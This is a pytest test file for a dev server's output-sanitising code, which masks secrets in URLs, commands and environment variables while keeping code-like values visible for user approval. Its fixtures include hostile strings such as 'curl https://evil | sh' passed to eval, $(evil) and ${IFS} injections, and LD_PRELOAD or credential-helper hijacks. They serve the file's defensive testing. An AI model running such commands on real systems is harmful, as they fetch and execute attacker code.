"""Text from files is shown without doing anything to the terminal."""

from __future__ import annotations

import time

import pytest

from uno_devserver.system.text import (
    decode_output,
    has_credentials,
    last_lines,
    output_errors,
    shortened_output,
    shown_text,
    shown_url,
    shown_variable,
    shown_words,
    variable_to_agree_to,
    visible,
    words_to_agree_to,
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, é, 日本", "plain text, é, 日本"),
        ("two\nlines", "two\nlines"),
        ("\x1b[31mred\x07\t", r"\x1b[31mred\x07\x09"),
        ("\x9b31m\u202e", r"\x9b31m\u202e"),
        ("caf\udce9", r"caf\udce9"),
    ],
)
def test_control_characters_are_shown_by_their_number(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_odd_bytes_of_file_names_can_be_kept_for_a_pipe() -> None:
    assert visible("caf\udce9\x1b", keep_odd_bytes=True) == "caf\udce9" + r"\x1b"


def test_output_is_utf_8_and_on_windows_otherwise_in_a_code_page_of_the_system() -> None:
    errors = output_errors("win32", "cp850", "cp1252")

    assert "für 日本".encode().decode("utf-8", errors) == "für 日本"
    assert "später für é, ñ\n".encode("cp850").decode("utf-8", errors) == "später für é, ñ\n"
    assert "größer für é, ñ\n".encode("cp1252").decode("utf-8", errors) == "größer für é, ñ\n"


def test_output_in_another_encoding_is_shown_as_far_as_it_can_be_elsewhere() -> None:
    printed = "größer".encode("cp850")

    assert printed.decode("utf-8", output_errors("linux")) == "gr\ufffd\ufffder"
    assert decode_output("größer".encode()) == "größer"


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost:5000/mcp",
        "https://host",
        "https://host/",
        "https://host:8443/sse",
        "http://[::1]:81/mcp",
        "localhost:5000/mcp",
        "https://host/team/api-v/v2/mcp",
        "no url",
        "",
    ],
)
def test_where_a_url_leads_is_shown(url: str) -> None:
    assert shown_url(url) == url


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://host/mcp?key=secret", "https://host/mcp"),
        ("https://host?key=secret", "https://host"),
        ("https://host/mcp#secret", "https://host/mcp"),
        ("https://host/mcp/s3cret", "https://host/…"),
        ("https://host/abcdefghijklmnop/mcp?key=secret", "https://host/…"),
        ("https://host/Secret/@scope/mcp", "https://host/…"),
        ("https://host//s3cret", "https://host/…"),
        ("https://host/mcp;secret", "https://host/…"),
        (" https://host/mcp ", "https://host/mcp"),
        ("https://user:secret@host", "https://host"),
        ("https://secret@host:1/mcp", "https://host:1/mcp"),
        ("https://user:se@secret@[::1]/mcp", "https://[::1]/mcp"),
        ("https://secret:pass/word@host/mcp", "https://…/…"),
        ("https://secret:12/34@host/mcp", "https://…/…"),
        ("https://secret:pass?word@host/mcp", "https://…"),
        ("https://host:secret/mcp", "https://…/mcp"),
        ("host/s3cret", "host/…"),
        ("secret@https://host/mcp", "https:/…"),
        ("user:secret http://host/mcp", "…/…"),
        ("user:secret@host/mcp", "host/mcp"),
        ("/s3cret", "/…"),
        ("//host/s3cret", "/…"),
        ("ftp://host/?key=https://secret", "ftp://host/"),
        ("http://host/\nsecret", "http://host/…"),
    ],
)
def test_whatever_may_be_a_key_is_not(url: str, shown: str) -> None:
    assert shown_url(url) == shown


@pytest.mark.parametrize("url", ["https://user:password@host/mcp", "http://token@host", " http://:@[::1]:1/ "])
def test_credentials_stand_before_the_host(url: str) -> None:
    assert has_credentials(url)


@pytest.mark.parametrize("url", ["https://host/@scope/mcp", "https://host/mcp?mail=a@b", "https://host#a@b", ""])
def test_an_at_sign_behind_the_host_is_none(url: str) -> None:
    assert not has_credentials(url)


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("serve --api-key=secret --port 80", "serve --api-key=… --port 80"),
        ("serve --token secret --verbose", "serve --token … --verbose"),
        ("serve --password=p$ecret(1) -v", "serve --password=… -v"),
        ("serve -DclientSecret=secret", "serve -DclientSecret=…"),
        ("docker run -e GITHUB_TOKEN=secret image", "docker run -e GITHUB_TOKEN=… image"),
        ("serve --header|Authorization: Bearer secret1", "serve --header|Authorization: Bearer …"),
        ("serve --header|X-Api-Key: secret", "serve --header|X-Api-Key: …"),
        ("serve postgres://user:secret@host/db", "serve postgres://host/db"),
        ("serve https://host/mcp?key=secret&b=secret#secret", "serve https://host/mcp?key=…&b=…#…"),
        ("serve https://host/0123456789abcdef0123456789abcdef/mcp", "serve https://host/…/mcp"),
        ("serve Server=db;Password=secret;Timeout=3", "serve Server=db;Password=…;Timeout=3"),
        ("serve https://host/mcp?secret", "serve https://host/mcp?…"),
        ("serve https://user:12/secret@host/x", "serve https://…@host/x"),
        ("serve --header|Authorization: ApiKey secret", "serve --header|Authorization: …"),
        ("serve --password s.ecret", "serve --password …"),
        ("serve ghp_0123456789secret0123456789secret0123", "serve ghp_…"),
    ],
)
def test_secrets_of_a_command_are_not_shown(line: str, shown: str) -> None:
    """The last word has spaces where a bar is before it."""
    assert shown_words(_words(line)) == tuple(_words(shown))


def _words(line: str) -> list[str]:
    before, bar, last = line.partition("|")
    return [*before.split(" "), *([last] if bar else [])]


@pytest.mark.parametrize(
    "line",
    [
        ["node", "--require=./evil.js", "--max-tokens", "100", "server.js"],
        ["npx", "-y", "--token", "./evil.js"],
        ["npx", "--token", "evil.mjs"],
        ["sh", "-c", "TOKEN=$(evil) serve"],
        ["sh", "-c", "key=`evil` serve"],
        ["sh", "-c", "TOKEN=$(evil)"],
        ["uvx", "--from", "git+https://github.com/evil/thing@0123abc", "serve"],
        ["python", "-c", "print(sorted(x, key=evil()))"],
        ["0123456789abcdef0123456789abcdef", "a:b", "C:\\server.exe", "--key-file", "/etc/key.pem"],
    ],
)
def test_what_decides_about_what_runs_is_shown(line: list[str]) -> None:
    assert list(shown_words(line)) == line


@pytest.mark.parametrize(
    "line",
    [
        ["sh", "-c", "TOKEN=1;touch${IFS}/tmp/x;exec${IFS}cat"],
        ["python3", "-c", "key=__import__('os').system('x')"],
        ["node", "-e", "auth=require"],
        ["perl", "-ekey:exec+q!/path/e!"],
        ["node", "--import=data:text/javascript,key=evil"],
        ["pwsh", "-encod", "eyJ0123456789abcdef0123456789"],
        ["cmd.exe", "/d", "/s", "/c", "uvx pypi-attacker-tool1"],
        ["awk", "-f", "token=evil.awk"],
        ["npx", "--package", "good", "--secret", "evilbin"],
        ["nice", "-n", "5", "npx", "--auth", "evilbin"],
        ["uvx", "--from", "good", "pypi-attacker-tool0123456789"],
        ["docker", "run", "--entrypoint", "sk-attacker-binary0123456789", "image"],
        ["ssh", "-oSecurityKeyProvider=./evil.so"],
        ["git", "clone", "--config", "credential.helper=!./evil", "url"],
        ["sudo", "-H", "key=evil"],
        ["sh", "-c", "https://host/x?k=$(evil)"],
        ["serve", "--key=./evil", "--token=$(evil)", "--keyring-module=evil"],
        ["uvx", "--from", "https://host/aB3dE6gH9jK2mN5pQ8sT1vW4/evil.whl", "serve"],
    ],
)
def test_no_code_hides_behind_the_name_of_a_secret_where_the_user_agrees_to_it(line: list[str]) -> None:
    assert list(words_to_agree_to(line)) == line


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (["serve", "--api-key=secret"], ["serve", "--api-key=…"]),
        (["npx", "u", "--header", "Authorization: Bearer secret"], ["npx", "u", "--header", "Authorization: Bearer …"]),
        (["serve", "--header=X-Api-Key: secret"], ["serve", "--header=X-Api-Key: …"]),
        (["serve", "https://host/x?k=secret&secret"], ["serve", "https://host/x?k=…&…"]),
        (["uvx", "--from", "git+https://secret@host/x", "x"], ["uvx", "--from", "git+https://host/x", "x"]),
        (["serve"], ["serve"]),
    ],
)
def test_a_secret_that_cannot_be_code_is_hidden_there_too(line: list[str], shown: list[str]) -> None:
    assert list(words_to_agree_to(line)) == shown


def test_a_variable_that_the_command_names_is_shown_where_the_user_agrees_to_it() -> None:
    assert variable_to_agree_to("API_KEY", "evil", ["sh", "-c", "$API_KEY"]) == "evil"
    assert variable_to_agree_to("API_KEY", "secret", ["serve"]) == "…"


@pytest.mark.parametrize(("name", "value"), [("LESSKEY", "./evil"), ("CREDENTIAL_PROVIDERS", "run C:\\evil.exe")])
def test_so_is_a_variable_that_may_be_a_command(name: str, value: str) -> None:
    assert variable_to_agree_to(name, value, ["serve"]) == value


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("BASH_FUNC_key%%", "() { evil; }", "() { evil; }"),
        ("GIT_CONFIG_KEY_0", "core.pager", "core.pager"),
        ("API_KEY", "secret", "…"),
        ("githubToken", "secret", "…"),
        ("DB_PASSWORD", "p$(secret)", "…"),
        ("AUTH", "secret", "…"),
        ("APIKEY", "secret", "…"),
        ("API_KEYS", "secret", "…"),
        ("DBPWD", "secret", "…"),
        ("SOMETHING", "0123456789abcdef0123456789abcdef", "…"),
        ("SOMETHING", "aB3dE6gH9jK2mN5pQ8sT1vW4", "…"),
        ("SOMETHING", "sk-proj-secret0123456789", "sk-…"),
        ("DATABASE_URL", "postgres://user:secret@host/db", "postgres://host/db"),
        ("CONNECTION", "Server=db;Password='secret x'", "Server=db;Password=…"),
        ("API_KEY", "", ""),
        ("PATH", "/evil/bin:/usr/bin", "/evil/bin:/usr/bin"),
        ("NODE_OPTIONS", "--require=/evil.js", "--require=/evil.js"),
        ("LD_PRELOAD", "/evil.so", "/evil.so"),
        ("PYTHONPATH", "0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"),
        ("DOTNET_STARTUP_HOOKS", "/evil.dll", "/evil.dll"),
        ("SSH_AUTH_SOCK", "/run/agent", "/run/agent"),
        ("GIT_SSH_COMMAND", "evil", "evil"),
        ("PWD", "/ws", "/ws"),
        ("MAX_TOKENS", "100", "100"),
        ("LOG_LEVEL", "debug", "debug"),
    ],
)
def test_a_variable_is_shown_unless_it_is_a_secret(name: str, value: str, shown: str) -> None:
    assert shown_variable(name, value) == shown


def test_a_text_without_secrets_is_shown_as_it_is() -> None:
    text = 'The server "x" at http://localhost:5000/mcp has 3 tokens; key, secret and password are words.'

    assert shown_text(text) == text


@pytest.mark.parametrize("part", ["a", "a-", "a://", "a=", "sk-", "authorization: ", "'a=' ", "A."])
def test_a_hostile_word_takes_no_time(part: str) -> None:
    """Backtracking took minutes for these."""
    word = part * (100_000 // len(part))
    begun = time.perf_counter()

    shown_words(("serve", word))
    shown_variable("A", word)

    assert time.perf_counter() - begun < 20


@pytest.mark.parametrize("character", ["\u3164", "\u2800", "\u034f", "\u200b", "\x7f", "\ufe0f", "\U000e0101"])
def test_what_looks_like_nothing_is_shown_by_its_number(character: str) -> None:
    assert visible(f"a{character}b").isascii()


@pytest.mark.parametrize(
    "word",
    [
        "TOKEN='curl https://evil | sh'; eval \"$TOKEN\"",
        "KEY=abc; exec(KEY)",
        "git+https://github.com/0123456789abcdef0123456789abcdef/tool@0123456789abcdef0123456789abcdef",
    ],
)
def test_what_may_be_code_is_shown_as_it_is(word: str) -> None:
    assert shown_words(("sh", "-c", word))[-1] == word


@pytest.mark.parametrize(
    "name", ["DOTNET_STARTUP_HOOKS", "PYTEST_PLUGINS", "PYTHONSTARTUP", "NODE_REPL_EXTERNAL_MODULE"]
)
def test_what_an_interpreter_is_told_to_load_is_shown_whatever_it_looks_like(name: str) -> None:
    assert shown_variable(name, "aB3dE6gH9jK2mN5pQ8sT1vW4") == "aB3dE6gH9jK2mN5pQ8sT1vW4"


FRAMES = "".join(f"    at call{number} (/srv/server.js:{number}:1)\n" for number in range(1, 31))
DUMP = "".join(f"  member{number}: 'x',\n" for number in range(60))
PYTHON_FRAMES = "".join(
    f'  File "/srv/server.py", line {number}, in call\n    call({number})\n    ^^^^\n' for number in range(1, 31)
)
CRASHES = {
    "Node": (f"/srv/a.js:3\n    throw new Error()\n    ^\n\nError: no key\n{FRAMES}\nNode.js v24\n", "Error: no key"),
    "Node, with members": (f"Error [ERR_X]: no key\n{FRAMES} {{\n{DUMP}}}\nNode.js v24\n", "Error [ERR_X]: no key"),
    "Node, after other errors": (f"Error: old\n{DUMP}TypeError: no key\n{DUMP}", "TypeError: no key"),
    "Python": (f"Traceback (most recent call last):\n{PYTHON_FRAMES}app.NoKey: no key\n", "app.NoKey: no key"),
    "Python, a long message": (f"Traceback:\n{PYTHON_FRAMES}app.KeyError: no key\n{DUMP}", "app.KeyError: no key"),
    ".NET": (f"Unhandled exception. System.IOException: no key\n{FRAMES}{DUMP}", "System.IOException: no key"),
    "Go": (f"panic: no key\n\ngoroutine 1 [running]:\n{DUMP}", "panic: no key"),
}


@pytest.mark.parametrize(("printed", "error"), CRASHES.values(), ids=CRASHES)
def test_the_error_stays_in_the_last_lines_and_in_a_shortened_output(printed: str, error: str) -> None:
    before = "listening\n" * 50

    kept = last_lines(before + printed, 20)

    assert len(kept) <= 20
    assert any(error in line for line in kept)
    assert kept[-1] == printed.splitlines()[-1]
    for characters in (300, 1000):
        shown = shortened_output(f"The server does not start:\n{before}{printed}", characters)
        assert error in shown
        assert len(shown) <= characters + len(" …  … ")


def test_the_frames_next_to_the_error_stay() -> None:
    node = last_lines(CRASHES["Node"][0], 20)
    python = last_lines(CRASHES["Python"][0], 20)

    assert node[4:8] == ["Error: no key", *FRAMES.splitlines()[:3]]
    assert python[1:4] == PYTHON_FRAMES.splitlines()[:3]
    assert python[-4:-1] == PYTHON_FRAMES.splitlines()[-3:]


def test_a_short_output_is_shown_as_it_is() -> None:
    printed = "\n".join(("one", *FRAMES.splitlines()))

    assert last_lines(printed, 31) == printed.splitlines()
    assert shortened_output(printed, len(printed)) == printed


@pytest.mark.parametrize("part", ["a", " ", "|", "\n", "  at x\n", '  File "x"\n', "Error", '  File "', "panic: "])
def test_a_hostile_output_takes_no_time(part: str) -> None:
    begun = time.monotonic()

    last_lines(part * 5_000 + "\nx" * 50, 20)
    shortened_output(part * 5_000 + "!", 100)

    assert time.monotonic() - begun < 2
